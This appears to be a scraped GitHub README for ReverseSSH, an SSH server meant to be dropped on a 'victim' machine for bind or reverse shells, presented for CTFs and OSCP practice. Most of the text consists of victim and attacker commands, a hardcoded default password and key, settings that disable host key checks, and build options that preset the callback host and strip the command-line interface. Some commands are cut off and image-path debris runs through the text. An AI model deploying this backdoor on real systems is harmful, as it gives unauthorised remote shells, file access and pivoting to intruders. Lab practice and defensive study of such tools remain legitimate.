Skip to content

Statically-linked ssh server with reverse shell functionality for CTFs and such


Notifications You must be signed in to change notification settings


Repository files navigation


A statically-linked ssh server with a reverse connection feature for simple yet powerful remote access. Most useful during HackTheBox challenges, CTFs or similar.

Has been developed and was extensively used during OSCP exam preparation.

Get the latest ReleaseCatching a reverse shell with netcat is cool, sure, but who hasn't accidentally closed a reverse shell with a keyboard interrupt due to muscle memory? Besides their fragility, such shells are also often missing convenience features such as fully interactive access, TAB-completion or history.

Instead, you can go the way to simply deploy the lightweight ssh server (<1.5MB) reverse-ssh onto the target, and use additional commodities such as file transfer and port forwarding!

ReverseSSH tries to bridge the gap between initial foothold on a target and full local privilege escalation. Its main strengths are the following:

  • Fully interactive shell access (check caveats for old windows versions below)
  • File transfer via sftp
  • Local / remote / dynamic port forwarding
  • Can be used as bind- and reverse-shell
  • Supports Unix and Windows operating systems

Windows caveats

A fully interactive powershell on windows relies on Windows Pseudo Console ConPTY and thus requires at least Win10 Build 17763. On earlier versions you can still get an interactive reverse shell that can't handle virtual terminal codes such as arrow keys or keyboard interrupts. In such cases you have to append the cmd command, i.e. ssh <OPTIONS> <IP> cmd.

You can achieve full interactive shell access for older windows versions by dropping ssh-shellhost.exe from OpenSSH for Windows in the same directory as reverse-ssh and then use flag -s ssh-shellhost.exe. This will pipe alltraffic through ssh-shellhost.exe, which mimics a pty and transforms all virtual terminal codes such that windows can understand.


Simply executing the provided binaries only relies on golang system requirements.

In short:

  • Linux: kernel version 2.6.23 and higher
  • Windows: Windows Server 2008R2 and higher or Windows 7 and higherCompiling additionally requires the following:

  • golang version 1.15
  • optionally upx for compression (e.g. apt install upx-ucl)


Once reverse-ssh is running on the victim, you can connect with any username and the default password letmeinbrudipls, the ssh key or whatever you specified during compilation. After all, it is just an ssh server:

# Fully interactive shell access
$ ssh -p <RPORT> <RHOST>

# Simple command execution
$ ssh -p <RPORT> <RHOST> whoami

# Full-fledged file transfers
$ sftp -P <RPORT> <RHOST>

# Dynamic port forwarding as SOCKS proxy on port 9050
$ ssh -p <RPORT> -D 9050 <RHOST>

Running ReverseSSH as bind shell

# Victim
victim$ ./reverse-ssh

# Attacker (default password: letmeinbrudipls)attacker$ ssh -p 31337 <RHOST>

Running ReverseSSH as reverse shell

Note: you can compile ReverseSSH with parameters for LHOST and LPORT to ease execution on the target, see below

# On attacker (get ready to catch the incoming request;
# can be omitted if you already have an ssh daemon running, e.g. OpenSSH)
# NOTE: LPORT of 8888 collides with incoming connections; use the flag `-b 8889` or similar on the victim in that case
attacker$ ./reverse-ssh -v -l -p <LPORT>

# On victim
victim$ ./reverse-ssh -p <LPORT> <LHOST># or in case of an ssh daemon listening atport 22 with password authentication for user 'kali'
victim$ ./reverse-ssh -p 22 kali@<LHOST>

# On attacker (default password: letmeinbrudipls)
attacker$ ssh -p 8888
# or with ssh config from below
attacker$ ssh target

In the end it's plain ssh, so you could catch the remote port forwarding call coming from the victim's machine with your openssh daemon listening on port 22. Justprepend <USER>@ and provide the password once asked to do so. Dialling home currently is password only, because I didn't feel like baking a private key in there as well yet...

For even more convenience, add the following to your ~/.ssh/config, copy the ssh private key to ~/.ssh/ and simply call ssh target or sftp target afterwards:

Host target
        Port 8888
        IdentityFile ~/.ssh/id_reverse-ssh
        IdentitiesOnly yes
        StrictHostKeyChecking noUserKnownHostsFile /dev/null

Full usage

reverseSSH v1.2.0  Copyright (C) 2021  Ferdinor <>

Usage: reverse-ssh[options] [[<user>@]<target>]

        reverse-ssh -l
        reverse-ssh -v -l -p 4444
        reverse-ssh kali@
        reverse-ssh -p 31337
        reverse-ssh -v -b 0 kali@

        -l, Start reverseSSH in listening mode (overrides reverse scenario)
        -p, Port at which reverseSSH is listening for incoming ssh connections (bind scenario)
                or where it tries to establish a ssh connection (reverse scenario) (default: 31337)
        -b, Reverse scenario only: bind to this port after dialling home (default: 8888)
        -s, Shell to spawn for incoming connections, e.g. /bin/bash; (default: /bin/bash)
                for windows this can only be used to give a path to 'ssh-shellhost.exe' to
                enhance pre-Windows10 shells (e.g. '-s ssh-shellhost.exe' if in same directory)
        -N, Deny all incoming shell/exec/subsystem and local port forwarding requests
                (if only remote port forwarding is needed, e.g. when catching reverse connections)
        -v, Emit log output

        Optional target which enables the reverse scenario. Can be prepended with
        <user>@ to authenticate as a different user other than 'reverse' while dialling home

        Accepting all incoming connections from any user with either of the following:
         * Password "letmeinbrudipls"
         * PubKey"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKlbJwr+ueQ0gojy4QWr2sUWcNC/Y9eV9RdY3PLO7Bk/ Brudi"

Build instructions

Make sure to install the above requirements such as golang in a matching version and set it up correctly. Afterwards, you can compile with make, which will create static binaries in bin. Use make compressed to pack the binaries with upx to further reduce their size.

$ make

# or to additionally created binaries packed with upx
$ make compressed

Build tricks

You can also specify one or more of the following environmental variables when compiling to customize ReverseSSH to your use case:

  • RS_SHELL to change the default shell
  • RS_PASS to provide your personalized password
  • RS_PUB to provide your personalized an authorized key
  • LUSER to change the default username of the ssh connection attempt
  • LHOST to provide a default LHOST value and make ReverseSSH default to the reverse scenario
  • LPORT to change the default listening port or port where an ssh connection attempt is sent to
  • BPORT to change the default listening port of reverse connections on the attacker machine; 0 means any free port is taken
  • NOCLI with any value removes all user-facing interaction (the binary ignores all supplied flags or arguments)
$ ssh-keygen -t ed25519 -f id_reverse-ssh

$ RS_SHELL="/bin/sh" RS_PASS="secret" RS_PUB="$(cat" make compressed$ LHOST="" LPORT="443" BPORT="0" RS_PUB="$(cat" make compressed

Building for different operating systems or architecturesBy default, reverse-ssh is compiled for your current OS and architecture, as well as for linux and windows in x86 and x64. To compile forother architectures or another OS you can provide environmental variables which match your target, e.g. for linux/arm64:

$ GOARCH=arm64 GOOS=linux make compressed

A list of available targets in format OS/arch can be obtained via go tooldist list.


Is a mind-blowing feature missing?Anything not working as intended?

Create an issue or pull request!